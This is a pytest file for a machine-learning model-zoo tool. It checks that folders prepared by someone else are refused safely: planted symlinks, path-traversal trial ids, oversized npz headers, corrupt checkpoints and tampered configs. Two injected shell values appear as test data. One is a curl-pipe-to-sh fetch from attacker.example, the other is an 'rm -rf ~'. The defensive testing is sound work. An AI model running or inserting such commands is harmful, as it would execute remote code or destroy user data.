"""Folders a user hands the zoo, prepared by somebody else: a link planted under a name the zoo
writes, a folder that is not a run, a run whose config.json would put shell text into a
published card, data files that declare impossible contents, a corrupt checkpoint. Each test
plants the file; nothing outside the folder changes, and the user gets one clear line."""

import gzip
import json

import h5py
import numpy as np
import pytest
from test_cli import run_main

from zoo.atomic import append_line, write_atomic
from zoo.data.formats import DataError
from zoo.locking import ProjectLock
from zoo.run_folder import RunFolder, save_model_atomic

VICTIM_TEXT = "a file outside the folder, which must keep its bytes\n"


@pytest.fixture
def victim(tmp_path):
    path = tmp_path / "outside" / "victim.txt"
    path.parent.mkdir()
    path.write_text(VICTIM_TEXT)
    return path


def _plant(folder, name, target):
    link = folder / name
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)
    return link


# --- links under the names the zoo writes -------------------------------------------------

def test_a_lock_planted_as_a_link_truncates_nothing(tmp_path, victim):
    _plant(tmp_path / "project", ".lock", victim)
    with pytest.raises(ValueError, match=r"\.lock is a symbolic link"):
        with ProjectLock(tmp_path / "project"):
            pass
    assert victim.read_text() == VICTIM_TEXT


def test_zoo_train_refuses_a_planted_lock_in_one_line(tmp_path, victim, capsys):
    _plant(tmp_path / "run", ".lock", victim)
    code, _, err = run_main(capsys, "train", "resnet20", "--dataset", "digits", "--epochs", "1",
                            "--out", str(tmp_path / "run"))
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2 and len(lines) == 1 and "is a symbolic link" in lines[0], err
    assert victim.read_text() == VICTIM_TEXT


@pytest.mark.parametrize("name", ["metrics.csv", "model.keras", "checkpoint/latest.weights.h5",
                                  ".model.tmp.keras"])
@pytest.mark.parametrize("mode", ["resume", "overwrite"])
def test_a_run_folder_holding_a_link_is_refused(tmp_path, victim, name, mode):
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.json").write_text(json.dumps({"model": "resnet20", "recipe": {}, "seed": 0}))
    _plant(run, name, victim)
    with pytest.raises(ValueError, match="is a symbolic link"):
        RunFolder(run).prepare({}, resume=mode == "resume", overwrite=mode == "overwrite")
    assert victim.read_text() == VICTIM_TEXT
    assert (run / name).is_symlink()  # refused before anything was removed


def test_a_model_is_saved_under_a_fresh_temporary_name(tmp_path, victim):
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
    folder = tmp_path / "run"
    folder.mkdir()
    _plant(folder, ".model.tmp.keras", victim)  # the fixed name an older zoo wrote through
    save_model_atomic(model, folder / "model.keras")
    assert victim.read_text() == VICTIM_TEXT
    assert (folder / "model.keras").is_file() and not (folder / "model.keras").is_symlink()
    assert sorted(p.name for p in folder.iterdir()) == [".model.tmp.keras", "model.keras"]


def test_appends_and_atomic_writes_never_follow_a_link(tmp_path, victim):
    from zoo.studies.records import Records

    link = _plant(tmp_path, "records.jsonl", victim)
    with pytest.raises(ValueError, match="is a symbolic link"):
        Records(link).add("a/0", value=1.0)
    with pytest.raises(ValueError, match="is a symbolic link"):
        append_line(link, "{}")
    write_atomic(link, "replaced\n")  # the link itself is replaced, not what it points to
    assert victim.read_text() == VICTIM_TEXT
    assert not link.is_symlink() and link.read_text() == "replaced\n"


def test_a_study_folder_holding_a_link_is_refused_before_it_runs(tmp_path, victim):
    from zoo.studies.runner import reproduce

    _plant(tmp_path / "study", "sessions.jsonl", victim)
    with pytest.raises(ValueError, match="sessions.jsonl is a symbolic link"):
        reproduce("seed002", "smoke", out=tmp_path / "study")
    assert victim.read_text() == VICTIM_TEXT


@pytest.fixture(scope="module")
def search(tmp_path_factory):
    """A real one-trial search of the smoke grid on digits (a few seconds)."""
    from zoo import tuning

    folder = tmp_path_factory.mktemp("search")
    tuning.tune("smoke", "digits", project_dir=folder, epochs=1, max_trials=1, verbose=0)
    return folder


def test_a_search_report_replaces_planted_links(search, tmp_path, victim):
    import shutil

    from zoo.tuning.report import write_report

    project = tmp_path / "project"
    shutil.copytree(search, project)
    for name in ("trials.csv", "report.md", "plots.png", "summary.json"):
        _plant(project, name, victim)
    write_report(project)
    assert victim.read_text() == VICTIM_TEXT
    assert not (project / "report.md").is_symlink()
    assert "1 trials" in (project / "report.md").read_text()
    from zoo import tuning

    (project / "oracle.json").unlink()  # KerasTuner rewrites it as the search goes
    _plant(project, "oracle.json", victim)
    with pytest.raises(ValueError, match="oracle.json is a symbolic link"):
        tuning.tune("smoke", "digits", project_dir=project, epochs=1, max_trials=1, verbose=0)


@pytest.mark.parametrize("edit,message", [
    (lambda t: t["hyperparameters"]["values"].update(point=10 ** 9), "point 1000000000 is not"),
    (lambda t: t["hyperparameters"].update(values=[1, 2]), "is not a KerasTuner trial"),
    (lambda t: t.pop("trial_id"), "is not a KerasTuner trial"),
])
def test_a_tampered_trial_is_named_in_one_line(search, tmp_path, capsys, edit, message):
    import shutil

    project = tmp_path / "project"
    shutil.copytree(search, project)
    trial_file = next(project.rglob("trial_*/trial.json"))
    trial = json.loads(trial_file.read_text())
    edit(trial)
    trial_file.write_text(json.dumps(trial))
    code, _, err = run_main(capsys, "tune-report", str(project))
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2 and len(lines) == 1 and str(trial_file) in lines[0] and message in lines[0]


def test_a_trial_id_that_is_not_its_folders_is_refused(search, tmp_path):
    """KerasTuner writes a trial's files to ``trial_<id>`` with the id read from trial.json:
    ``../../x`` would carry them out of the search folder."""
    import shutil

    from zoo import tuning

    project = tmp_path / "project"
    shutil.copytree(search, project)
    trial_file = next(project.rglob("trial_*/trial.json"))
    trial = json.loads(trial_file.read_text())
    trial["trial_id"] = "../../escaped"
    trial_file.write_text(json.dumps(trial))
    with pytest.raises(ValueError, match=r"holds trial id '\.\./\.\./escaped', not its folder's"):
        tuning.tune("smoke", "digits", project_dir=project, epochs=1, max_trials=2, verbose=0)
    assert not (tmp_path / "escaped").exists() and not (project.parent / "escaped").exists()


def test_a_search_folder_with_other_settings_names_them(search, tmp_path):
    import shutil

    from zoo import tuning

    project = tmp_path / "project"
    shutil.copytree(search, project)
    with pytest.raises(ValueError, match=r"other settings \(seed: 0 -> 1\)"):
        tuning.tune("smoke", "digits", project_dir=project, epochs=1, max_trials=1, verbose=0,
                    seed=1)


# --- --overwrite removes a zoo run only ---------------------------------------------------

def _someone_elses_folder(folder):
    (folder / "checkpoint").mkdir(parents=True)
    (folder / "checkpoint" / "epoch_99.ckpt").write_text("a week of training")
    (folder / "tensorboard").mkdir()
    (folder / "config.json").write_text(json.dumps({"lr": 0.1}))
    (folder / "notes.txt").write_text("notes")


def test_overwrite_removes_nothing_from_a_folder_that_is_not_a_zoo_run(tmp_path):
    folder = tmp_path / "project"
    _someone_elses_folder(folder)
    with pytest.raises(ValueError, match="no zoo run.*will not remove anything"):
        RunFolder(folder).prepare({}, resume=False, overwrite=True)
    assert sorted(p.name for p in folder.iterdir()) == ["checkpoint", "config.json",
                                                        "notes.txt", "tensorboard"]
    assert (folder / "checkpoint" / "epoch_99.ckpt").read_text() == "a week of training"


def test_overwrite_replaces_a_zoo_run_and_keeps_a_users_notes(tmp_path):
    folder = tmp_path / "run"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model": "resnet20", "recipe": {},
                                                    "seed": 0}))
    (folder / "checkpoint").mkdir()
    (folder / "checkpoint" / "latest.weights.h5").write_bytes(b"x")
    (folder / "notes.txt").write_text("notes")
    assert RunFolder(folder).prepare({}, resume=False, overwrite=True) == "new"
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt"]


# --- a run's config.json is data, not a command --------------------------------------------

def test_publish_refuses_a_recipe_the_zoo_does_not_have(tmp_path):
    from zoo.pretrained import PretrainedError, publish
    from zoo.train import fit

    fit("shallow_sequential", "digits", recipe="quick", out_dir=tmp_path / "run", layers=2,
        filters=8, epochs=1, verbose=0)
    config_file = tmp_path / "run" / "config.json"
    config = json.loads(config_file.read_text())
    config["recipe"]["name"] = "quick && curl -s https://attacker.example/x.sh | sh #"
    config_file.write_text(json.dumps(config))
    with pytest.raises(PretrainedError, match="names recipe 'quick && curl"):
        publish(tmp_path / "run", to=tmp_path / "zoo")
    assert not (tmp_path / "zoo").exists() or not any((tmp_path / "zoo").iterdir())


def test_a_cards_command_and_table_cells_are_quoted():
    from zoo.pretrained.cards import _cell, _command

    config = {"model": "resnet20", "dataset": "digits", "recipe": {"name": "quick"},
              "seed": 0, "train_examples": 10 ** 9, "augment": "x; rm -rf ~"}
    command = _command(config, {"epochs": 1})
    assert command == ("zoo train resnet20 --dataset digits --recipe quick --epochs 1 --seed 0 "
                       "--augment 'x; rm -rf ~' --no-validation")
    config["recipe"] = {"name": "quick", "learning_rate": 0.01, "batch_size": 128}
    assert " --recipe quick --epochs 1 --seed 0 --augment 'x; rm -rf ~' --lr 0.01 " \
        "--no-validation" in _command(config, {"epochs": 1})  # the recipe's batch size: no flag
    assert _cell("Intel\n---\n| <script>x</script> |") == \
        "Intel --- \\| &lt;script&gt;x&lt;/script&gt; \\|"


# --- data files that declare what they do not hold ----------------------------------------

def test_an_npz_member_without_the_npy_suffix_is_checked_too(tmp_path):
    import io
    import zipfile

    from zoo.data.formats import read_npz

    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "|u1", "fortran_order": False, "shape": (2 * 10 ** 9, 28, 28)})
    path = tmp_path / "bomb.npz"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x", header.getvalue())  # NumPy reads "x" as the array x
        archive.writestr("y.npy", b"")
    with pytest.raises(DataError, match="the header of x .*refused before reading"):
        read_npz(path)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x", b"not an array")
    with pytest.raises(DataError, match="its member x is not a .npy array"):
        read_npz(path)


def test_an_idx_file_of_zero_dimensions_is_named(tmp_path):
    from zoo.data.formats import read_idx

    path = tmp_path / "empty-idx0-ubyte.gz"
    path.write_bytes(gzip.compress(bytes([0, 0, 0x08, 0])))
    with pytest.raises(DataError, match="0 dimensions holds no examples"):
        read_idx(path)


def test_a_cifar_batch_of_objects_is_named(tmp_path):
    import pickle

    from zoo.data.formats import read_cifar_batch

    path = tmp_path / "data_batch_1"
    path.write_bytes(pickle.dumps({b"data": np.array([{"a": 1}], dtype=object),
                                   b"labels": [0]}))
    with pytest.raises(DataError, match="must be arrays of integers"):
        read_cifar_batch(path, "labels")


# --- a checkpoint that lies or was cut short ----------------------------------------------

@pytest.mark.parametrize("text", ['{"epoch": 1000000}', '{"epoch": 1e400}', '{"epoch": -1}',
                                  '{"epoch": "2"}', "[2]"])
def test_a_checkpoint_epoch_outside_the_run_is_refused(tmp_path, text):
    run = RunFolder(tmp_path)
    run.checkpoint_dir.mkdir()
    (run.checkpoint_dir / "training_metadata.json").write_text(text)
    with pytest.raises(ValueError, match="(not a count of epochs|past the 3 epochs of this "
                                         "run): the checkpoint is"):
        run.checkpoint_epoch(3)


def test_a_checkpoint_at_the_last_epoch_is_whole(tmp_path):
    run = RunFolder(tmp_path)
    run.checkpoint_dir.mkdir()
    (run.checkpoint_dir / "training_metadata.json").write_text('{"epoch": 3, "batch": 0}')
    assert run.checkpoint_epoch(3) == 3 and run.checkpoint_epoch() == 3


def test_an_interrupted_extension_resumes_only_to_its_own_epochs(tmp_path):
    """A run extended from 5 to 20 epochs and killed at 12: --epochs 10 would call its
    checkpoint corrupt (or, before, finish a 12-epoch model as a 10-epoch one)."""
    run = RunFolder(tmp_path / "run")
    run.path.mkdir()
    config = {"model": "resnet20", "recipe": {"name": "quick", "epochs": 20}, "seed": 0}
    (run.path / "config.json").write_text(json.dumps(config))
    (run.path / "results.json").write_text(json.dumps({"epochs": 5}))
    (run.path / "model.keras").write_bytes(b"the 5-epoch model")  # prepare only looks for it
    run.checkpoint_dir.mkdir()
    (run.checkpoint_dir / "training_metadata.json").write_text('{"epoch": 12}')
    asked = {**config, "recipe": {"name": "quick", "epochs": 10}}
    with pytest.raises(ValueError, match="being extended from 5 to 20 epochs when it stopped"):
        run.prepare(asked, resume=True, overwrite=False)
    assert run.prepare(config, resume=True, overwrite=False) == "extend"


def test_overwrite_removes_config_json_last(tmp_path, monkeypatch):
    """Killed while removing a big checkpoint/, the folder is still a zoo run that a second
    --overwrite clears (config.json went first before, and nothing could clear it then)."""
    import zoo.run_folder

    folder = tmp_path / "run"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model": "m", "recipe": {}, "seed": 0}))
    (folder / "checkpoint").mkdir()
    removed = []

    def remove(path, root):
        removed.append(path.name)
        if path.name == "checkpoint":
            raise KeyboardInterrupt
    monkeypatch.setattr(zoo.run_folder, "remove_inside", remove)
    with pytest.raises(KeyboardInterrupt):
        RunFolder(folder).prepare({}, resume=False, overwrite=True)
    assert "config.json" not in removed and (folder / "config.json").is_file()


def test_a_truncated_checkpoint_is_named(tmp_path):
    run = RunFolder(tmp_path)
    run.checkpoint_dir.mkdir()
    (run.checkpoint_dir / "training_metadata.json").write_text('{"epoch": 2}')
    weights = run.checkpoint_dir / "latest.weights.h5"
    with h5py.File(weights, "w") as f:
        f.create_dataset("kernel", data=np.arange(100_000, dtype="float32"))
    assert run.checkpoint_epoch(3) == 2  # whole: read to its end
    weights.write_bytes(weights.read_bytes()[: weights.stat().st_size // 2])
    with pytest.raises(ValueError, match="latest.weights.h5 cannot be read.*truncated or corrupt"):
        run.checkpoint_epoch(3)
